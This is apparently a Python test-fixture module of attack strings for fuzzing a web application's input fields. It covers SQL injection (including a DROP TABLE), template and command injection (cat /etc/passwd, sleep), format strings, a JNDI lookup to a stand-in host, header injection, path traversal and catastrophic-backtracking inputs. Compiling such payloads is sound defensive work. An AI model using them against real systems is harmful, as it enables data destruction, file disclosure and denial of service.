"""What attackers write into fields: words of SQL, templates, shells, formats, headers, and texts that cost time."""

SQL = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE cases_case; --", "1; SELECT pg_sleep(3)", "' || pg_sleep(3) || '",
    "1) OR pg_sleep(3) IS NULL--", "'; SELECT pg_sleep(3)--", "' UNION SELECT NULL,NULL,NULL--",
    "1 AND 1=(SELECT COUNT(*) FROM audit_event)", "\\'; SELECT 1--", "%' OR '%'='", "admin'/*", "') OR ('a'='a",
    "1/**/OR/**/1=1", "' AND randomblob(100000000) IS NULL --", "'; ATTACH DATABASE '/tmp/x' AS x; --",
    "$$; SELECT pg_sleep(3); $$", "' OR CAST((SELECT version()) AS int)=1 --", "\u02bc OR 1=1--", "\uff07 OR 1=1--",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% print 7*7 %}", "{{ config }}",
    "{{ request.user }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}", "{% raw %}{{7*7}}{% endraw %}", "*{7*7}", "@(7*7)",
    "{{constructor.constructor('return 7*7')()}}", "#set($x=7*7)$x",
)  # fmt: skip
COMMANDS = (
    "; sleep 3", "| sleep 3", "`sleep 3`", "$(sleep 3)", "&& sleep 3", "\nsleep 3\n", "|| id", "; cat /etc/passwd",
    "$(touch /tmp/clearway-was-here)", "%0asleep%203",
)  # fmt: skip
FORMATS = (
    "%s%s%s%s%n", "%x%x%x", "{0}", "{0.__class__.__init__.__globals__}", "{user}", "%(name)s", "%d", "{:>99999999}",
    "%99999999s", "${jndi:ldap://elsewhere.example/a}", "=1+1", "@SUM(1)", "+1", "-1+1",
)  # fmt: skip
HEADERS = (
    "a\r\nSet-Cookie: clearway-session=x", "a\nLocation: //elsewhere.example", "a%0d%0aX-Made: 1",
    "a\u560d\u560aX-Made: 1", "a\rX-Made: 1", "a\r\n\r\n<h1>other</h1>", "a\u2028X-Made: 1", "a\u0085X-Made: 1",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "%2e%2e%2f", "C:\\", "//elsewhere.example/", "https://elsewhere.example",
    "php://filter", "../" * 20,
)  # fmt: skip
OBJECTS = (
    "__proto__", "constructor", "[]", "{}", "null", "undefined", "NaN", "true", "-1", "0", "1e309", "9" * 40, "0x10",
    "\u0661\u0662", "\u00b2", "1_000", " 1 ", "+1", "١", "[object Object]", "a[]=1", "&amp;a=1", "()",
)  # fmt: skip
ALL = (*SQL, *TEMPLATES, *COMMANDS, *FORMATS, *HEADERS, *PATHS, *OBJECTS)

# Texts on which a careless expression takes for ever; each is a field's whole value.
SLOW = (
    "a" * 150+"!", "a@" * 75, "1" * 190, " " * 190+"x", "(" * 190, "<" * 190, "=" * 190, "\n" * 190, "a." * 90+"@",
    "0-" * 90, "&#" * 90, "%25" * 60, "\u0301" * 190, "{{" * 90, "../" * 60,
)  # fmt: skip
SLOW_TEXTS = (
    "a " * 25_000, "a" * 400+" " * 20_000+"!", "(" * 20_000, "<" * 20_000, "data:" * 10_000, "=" * 20_000,
    "&#x41;" * 8_000, "%41" * 15_000, "\\x41" * 10_000, "AAAA " * 9_000, "0 " * 25_000, "http://" * 7_000,
    "\u0301" * 20_000, "\n" * 20_000, "{{" * 20_000,
)  # fmt: skip
